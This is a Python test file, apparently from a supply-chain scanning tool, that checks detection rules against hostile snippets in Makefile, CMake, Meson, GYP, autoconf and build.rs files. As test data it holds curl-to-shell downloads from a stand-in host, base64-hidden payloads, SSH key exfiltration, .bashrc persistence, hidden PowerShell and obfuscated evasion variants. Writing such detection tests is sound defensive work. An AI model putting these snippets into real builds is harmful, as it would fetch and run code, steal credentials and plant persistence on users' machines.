"""What the rules about code see in files that builds go by: Make, CMake, Meson, GYP, Autoconf and cargo's."""

from typing import Final

import pytest

from tests.vetting.domain.signals.code.cases import Case
from tests.vetting.domain.signals.code.judging import BY_ID, half_tried, judge
from tests.vetting.domain.signals.looking import brief, found
from vetting.domain.signals.capabilities import capabilities_in
from vetting.domain.signals.interface import FileSide, digest_of

FROM: Final = "https://x.example.test/a"
HIDDEN: Final = "Y3VybCBodHRwczovL3guZXhhbXBsZS50ZXN0L2EgfCBzaA=="
"""Base64 of a download that is run."""
MAKE, CMAKE, MESON = "Makefile", "CMakeLists.txt", "meson.build"
LONG: Final = f"{'y' * 200} " * 9
GYP, AC, RUST, WRAP = "binding.gyp", "configure.ac", "build.rs", "subprojects/x.wrap"

CASES: Final = (
    Case("C1", "hit", "high", "all:\n\tbase64 -d < $(FILE) | sh\n", MAKE),
    Case("C1", "twin", None, "all:\n\tbase64 -d < $(FILE) > logo.png\n\tsh build.sh\n", MAKE),
    Case("C1", "evasion", "high", "execute_process(COMMAND base64 -d x OUTPUT_VARIABLE V)\n"
         "execute_process(COMMAND sh -c ${V})\n", CMAKE),
    Case("C1", "evasion", "high", 'X != openssl base64 -d < y\nall:\n\teval "$$X"\n', MAKE),
    Case("C1", "evasion", "high", "V = run_command('xxd', '-r', 'x').stdout()\nrun_command('sh', '-c', V)\n", MESON),
    Case("C1", "evasion", "high", "x=`echo $y | sed 's/.*\\.//g'`\neval $z | $x -d 2>/dev/null | $SHELL\n", "m4/x.m4"),
    Case("C1", "twin", None, "x=`echo $y | sed 's/.*\\.//g'`\ngzip -dc a.tar.gz | tar x\n$x -d b > c\n", "m4/x.m4"),
    Case("C2", "hit", "high", f"all:\n\techo {HIDDEN} | base64 -d | sh\n", MAKE),
    Case("C2", "hit", "high", f"execute_process(COMMAND echo {HIDDEN} COMMAND base64 -d COMMAND sh)\n", CMAKE),
    Case("C2", "twin", None, "add_custom_command(OUTPUT x COMMAND echo aGVsbG8= COMMAND base64 -d x)\n", CMAKE),
    Case("C2", "evasion", "high", f"A = {HIDDEN[:9]}\nB := $(A){HIDDEN[9:]}\nall: ; @echo ${{B}} | base64 -d | sh\n",
         MAKE),
    Case("C2", "evasion", "high", f"{{'a': ['<!(echo {HIDDEN[:9]}' '{HIDDEN[9:]} | base64 -d | sh)']}}", GYP),
    Case("C3", "hit", "high", f"all:\n\tcurl {FROM} | sh\n", MAKE),
    Case("C3", "hit", "high", f"V := $(shell curl {FROM} | sh)\n", MAKE),
    Case("C3", "hit", "high", f"execute_process(COMMAND curl {FROM} COMMAND sh)\n", CMAKE),
    Case("C3", "hit", "high", f"file(DOWNLOAD {FROM} tool)\nexecute_process(COMMAND ./tool)\n", CMAKE),
    Case("C3", "hit", "high", "FetchContent_Declare(foo GIT_REPOSITORY https://x.example.test/foo GIT_TAG main)\n",
         CMAKE),
    Case("C3", "hit", "medium", f"[wrap-git]\nurl = {FROM}\nrevision = head\n", WRAP),
    Case("C3", "twin", None, f"[wrap-git]\nurl = {FROM}\nrevision = v1.2\n", WRAP),
    Case("C3", "hit", "high", f"run_command('sh', '-c', 'curl {FROM} | sh')\n", MESON),
    Case("C3", "hit", "high", f"{{'a': ['<!(curl {FROM} | sh)']}}", GYP),
    Case("C3", "hit", "high", f"{{'actions': [{{'action': ['sh', '-c', 'curl {FROM} | sh']}}]}}", GYP),
    Case("C3", "hit", "high", f"AC_CONFIG_COMMANDS([x], [curl {FROM} | sh])\n", AC),
    Case("C3", "hit", "high", 'fn main() {\n let a = ureq::get(U);\n Command::new("./a");\n}\n', RUST),
    Case("C3", "twin", None, f"# curl {FROM} | sh\nall:\n\tcurl -O {FROM}/x.tar.gz\n\ttar xf x.tar.gz\n", MAKE),
    Case("C3", "twin", None, f"#[[ execute_process(COMMAND curl {FROM} COMMAND sh) ]]\nfile(DOWNLOAD {FROM} x.zip)\n"
         'message("curl | sh")\nFetchContent_Declare(foo URL https://x.example.test/foo-1.2.zip)\n'
         'ExternalProject_Add(bar URL https://x.example.test/bar CONFIGURE_COMMAND "" BUILD_COMMAND "" '
         'INSTALL_COMMAND "")\n', CMAKE),
    Case("C3", "twin", None, f"# run_command('sh', '-c', 'curl {FROM} | sh')\n"
         f"run_command('curl', '-o', 'x', '{FROM}')\n", MESON),
    Case("C3", "twin", None, '/* Command::new("curl") /* a */ ureq::get() */\nfn main() { Command::new("make"); }\n',
         RUST),
    Case("C3", "evasion", "high", f"all:\n\t$(call run,$(subst z,,zcuzrl) {FROM})\n"
         "define run\n$(1) \\\n | bash\nendef\n", MAKE),
    Case("C3", "evasion", "high", f".RECIPEPREFIX = >\nSHELL = sh\nall: X := cur\nall:\n>@-$(X)l {FROM} | $(SHELL)\n",
         MAKE),
    Case("C3", "evasion", "high", f"string(ASCII 99 117 114 108 C)\nlist(APPEND C {FROM})\n"
         "execute_process(COMMAND ${C} OUTPUT_FILE q)\ninclude(q)\n", CMAKE),
    Case("C3", "evasion", "high", f"install(CODE [[execute_process(COMMAND curl {FROM} COMMAND sh)]])\n", CMAKE),
    Case("C3", "evasion", "high", f'cmake_language(EVAL CODE "file(DOWNLOAD {FROM} q)")\n'
         "cmake_language(CALL execute_process COMMAND ./q)\n", CMAKE),
    Case("C3", "evasion", "high", f"c = 'cu@0@l'.format('r')\nu = f'@c@ {FROM}'\n"
         "custom_target('x', command: ['bash', '-c', ' | '.join([u, 'sh'])])\n", MESON),
    Case("C3", "evasion", "high", f"x = run_command('cur' + 'l', '{FROM}', check: true).stdout().strip()\n"
         "meson.add_install_script('sh', '-c', x)\n", MESON),
    Case("C3", "evasion", "high", f"{{'variables': {{'u%': '{FROM}'}}, 'a': ['<!(cu' 'rl <(u) | s\\h)']}}", GYP),
    Case("C3", "evasion", "high", f"{{'a': ['<!([\"sh\", \"-c\", \"curl {FROM} | sh\"])']}}", GYP),
    Case("C3", "evasion", "high", 'use std::process as p; const C: &str = concat!("cu", "rl");\nfn main() {\n'
         f' let mut c = p::Command::new("sh"); c.arg("-c");\n c.arg(format!("{{}} {FROM} | sh", C)); }}\n', RUST),
    Case("C4", "hit", "high", f"all:\n\tcat ~/.ssh/id_rsa | curl -d @- {FROM}\n", MAKE),
    Case("C4", "twin", None, f"all:\n\tchmod 600 ~/.ssh/id_rsa\n\techo {FROM}\n", MAKE),
    Case("C4", "evasion", "high", f'set(P .ss)\nfile(UPLOAD "$ENV{{HOME}}/${{P}}h/id_rsa" {FROM})\n', CMAKE),
    Case("C4", "evasion", "medium", 'use reqwest as r;\nfn main() { let k = read("/home/x/.netrc"); r::post(U); }\n',
         RUST),
    Case("C6", "hit", "medium", "all:\n\tnohup ./worker &\n", MAKE),
    Case("C6", "twin", None, "all:\n\t./worker\n", MAKE),
    Case("C6", "evasion", "high", "execute_process(COMMAND cmake -E env A=1 powershell -w hidden -enc aQBkAA==)\n",
         CMAKE),
    Case("C6", "evasion", "high", "run_command(find_program('power' + 'shell'), '-eNc', 'aQBkAA==')\n", MESON),
    Case("C8", "hit", "high", "install:\n\techo x >> $(HOME)/.bashrc\n", MAKE),
    Case("C8", "hit", "high", 'file(APPEND "$ENV{HOME}/.bashrc" x)\n', CMAKE),
    Case("C8", "twin", None, "install:\n\tcat ~/.bashrc\n", MAKE),
    Case("C8", "evasion", "high", "f = '.bash'\nconfigure_file(input: 'x', output: '/root' / f + 'rc')\n", MESON),
    Case("C8", "evasion", "high", 'use std::fs::{self, write as w};\nfn main() { w("/root/.bashrc", "x"); }\n', RUST),
    Case("C9", "hit", "high", "all:\n\tnpm publish --access public\n", MAKE),
    Case("C9", "hit", "high", "all:\n\techo x > .github/workflows/a.yml\n", MAKE),
    Case("C9", "hit", "high", f"all:\n\ttee {LONG} .github/workflows/a.yml {LONG}\n", MAKE),
    Case("C9", "hit", "high", "all:\n\tcd .github/workflows && cp /tmp/x .\n", MAKE),
    Case("C9", "hit", "medium", "all:\n\tcog -crP .github/workflows/*.yml\n\techo x > y\n", MAKE),
    Case("C9", "hit", "medium", "all:\n\tcp .github/workflows/a.yml x\n", MAKE),
    Case("C9", "twin", None, "all:\n\tnpm install\n", MAKE),
    Case("C9", "evasion", "high", "{'actions': [{'action': ['npm', 'pub' 'lish']}]}", GYP),
    Case("C9", "evasion", "high", "add_custom_target(x ALL npm publish)\n", CMAKE),
    Case("C10", "hit", "medium", "all:\n\tcurl https://webhook.site/x\n", MAKE),
    Case("C10", "hit", "low", f"file(DOWNLOAD {FROM} x.zip EXPECTED_HASH SHA256=0)\n", CMAKE),
    Case("C10", "twin", None, "message(https://docs.example.test/)\nset_target_properties(x PROPERTIES URL a)\n",
         CMAKE),
    Case("C10", "evasion", "medium", "h = 'webhook'\nrun_command('curl', 'https://' + h + '.site/x')\n", MESON),
    Case("C10", "evasion", "medium", 'const A: &str = concat!("https://web", "hook.site/x");\n'
         'fn main() { Command::new("curl").arg(A); }\n', RUST),
)  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.path}-{case.rule}-{case.kind}")
def test_a_rule_sees_it_in_what_builds_run(case: Case) -> None:
    """Each case of the table has the worst severity that stands beside it."""
    judge(case)


def test_each_is_tried_with_a_hit_a_twin_and_two_evasions() -> None:
    """No rule that reads what builds run goes without."""
    assert half_tried(CASES, {case.rule for case in CASES}) == []


@pytest.mark.parametrize(
    ("path", "source", "place"),
    [
        (MAKE, "\n\nall:\n\t@curl {} | sh\n", (4, 2)),
        (CMAKE, "\nif(X)\n  execute_process(\n    COMMAND curl {}\n    COMMAND sh)\nendif()\n", (3, 3)),
        (MESON, "\nx = 1\nif x\n  y = run_command(\n    'sh', '-c', 'curl {} | sh')\nendif\n", (4, 7)),
        (GYP, "{\n 'a': [\n  '<!(curl %s | sh)'\n ]\n}".replace("%s", "{}"), (3, 3)),
        (RUST, 'fn main() {\n  Command::new("sh")\n    .arg("-c").arg("curl % | sh");\n}\n'.replace("%", "{}"), (2, 3)),
    ],
)
def test_a_finding_stands_where_the_command_does(path: str, source: str, place: tuple[int, int]) -> None:
    """In the line and column at which the call begins that runs it."""
    findings = found(BY_ID["C3"], path, source.replace("{}", FROM).encode())
    assert [(line, column) for _, _, line, column in brief(findings)] == [place]


def test_to_start_programs_is_no_new_capability_of_a_build() -> None:
    """It is all that one does."""
    data = f"all:\n\tcurl {FROM}\n".encode()
    assert capabilities_in(FileSide(MAKE, MAKE, digest_of(data), data)) == {}
